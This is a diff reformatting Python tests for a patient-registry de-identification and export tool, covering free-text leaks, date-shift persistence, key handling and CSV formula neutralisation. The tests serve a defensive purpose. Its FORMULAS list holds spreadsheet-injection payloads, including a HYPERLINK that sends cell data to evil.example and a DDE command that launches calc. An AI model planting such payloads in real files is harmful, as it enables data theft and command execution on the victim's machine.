@@ -41,8 +41,16 @@ def _all_text(folder: Path) -> str:
 def test_free_text_in_unit_and_equation_never_reaches_the_researcher(tmp_path: Path) -> None:
     rows = copy.deepcopy(base_rows())
     rows["labs"][2]["unit"] = LEAK  # haemoglobin: no unit rule at import
-    rows["labs"].append({"patient_id": "P2", "date": "2019-02-01", "test": "egfr",
-                         "value": "55", "unit": "mL/min/1.73m2", "equation": LEAK})  # fmt: skip
+    rows["labs"].append(
+        {
+            "patient_id": "P2",
+            "date": "2019-02-01",
+            "test": "egfr",
+            "value": "55",
+            "unit": "mL/min/1.73m2",
+            "equation": LEAK,
+        }
+    )
     src = write_folder(tmp_path / "reg", rows)
     done = deidentify_folder(src, tmp_path / "out", KEY)
     assert "John" not in _all_text(tmp_path / "out") and "1234567" not in _all_text(
@@ -62,14 +70,16 @@ def test_every_column_has_a_deliberate_rule() -> None:
     from dataclasses import replace
 
     spec = FILES["events"]
-    loose = replace(spec, columns=(*spec.columns, replace(spec.column("detail"), name="note",
-                                                          phi=None)))  # fmt: skip
+    loose = replace(
+        spec, columns=(*spec.columns, replace(spec.column("detail"), name="note", phi=None))
+    )
     with pytest.raises(DeidentifyError, match="without a de-identification rule"):
         column_rule(loose, "note")
 
 
-def test_repeated_exports_do_not_narrow_the_shift(engine: Engine, folder: Path,
-                                                  tmp_path: Path) -> None:  # fmt: skip
+def test_repeated_exports_do_not_narrow_the_shift(
+    engine: Engine, folder: Path, tmp_path: Path
+) -> None:
     """A recipient of many exports intersects the birth dates each one allows (true date =
     shifted date + 1..364 days). With a persistent key every export shifts a patient by the
     same days, so the intersection stays 364 days wide."""
@@ -90,16 +100,25 @@ def test_repeated_exports_do_not_narrow_the_shift(engine: Engine, folder: Path,
 
 def test_cli_refuses_a_one_off_key(tmp_path: Path) -> None:
     db = f"sqlite:///{tmp_path / 'r.db'}"
-    assert run_cli("import", str(write_folder(tmp_path / "reg", base_rows())), "--db",
-                   db).returncode == 0  # fmt: skip
-    done = run_cli("export", str(tmp_path / "out"), "--deidentify", "--db", db,
-                   env={KEY_FILE_ENV: ""})  # fmt: skip
+    assert (
+        run_cli("import", str(write_folder(tmp_path / "reg", base_rows())), "--db", db).returncode
+        == 0
+    )
+    done = run_cli(
+        "export", str(tmp_path / "out"), "--deidentify", "--db", db, env={KEY_FILE_ENV: ""}
+    )
     assert done.returncode == 1 and "persistent key" in done.stderr
     assert not (tmp_path / "out").exists()
 
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|'/C calc'!A0", "+1+1",
-            "-2+3", "@SUM(A1)", "\tTAB"]  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "=cmd|'/C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tTAB",
+]
 
 
 def test_formula_safe_cells() -> None:
@@ -113,14 +132,25 @@ def test_csv_exports_neutralise_formulas(engine: Engine, folder: Path, tmp_path:
     import_folder(engine, folder)
     with engine.begin() as conn:
         for n, formula in enumerate(FORMULAS):
-            conn.execute(text("INSERT INTO patients (patient_id, sex, birth_date) "
-                              "VALUES (:p, 'male', '1950-01-01')"), {"p": formula})  # fmt: skip
-            conn.execute(text("INSERT INTO events (patient_id, date, type, detail) VALUES "
-                              "(:p, '2020-01-01', 'last_followup', :d)"),
-                         {"p": "P1" if n else formula, "d": formula})  # fmt: skip
+            conn.execute(
+                text(
+                    "INSERT INTO patients (patient_id, sex, birth_date) "
+                    "VALUES (:p, 'male', '1950-01-01')"
+                ),
+                {"p": formula},
+            )
+            conn.execute(
+                text(
+                    "INSERT INTO events (patient_id, date, type, detail) VALUES "
+                    "(:p, '2020-01-01', 'last_followup', :d)"
+                ),
+                {"p": "P1" if n else formula, "d": formula},
+            )
             if n:
-                conn.execute(text("UPDATE events SET date = :d WHERE detail = :f"),
-                             {"d": f"2020-02-{n:02d}", "f": formula})  # fmt: skip
+                conn.execute(
+                    text("UPDATE events SET date = :d WHERE detail = :f"),
+                    {"d": f"2020-02-{n:02d}", "f": formula},
+                )
     export_folder(engine, tmp_path / "full")
     for name in ("patients", "events"):
         for row in _read(tmp_path / "full", name):
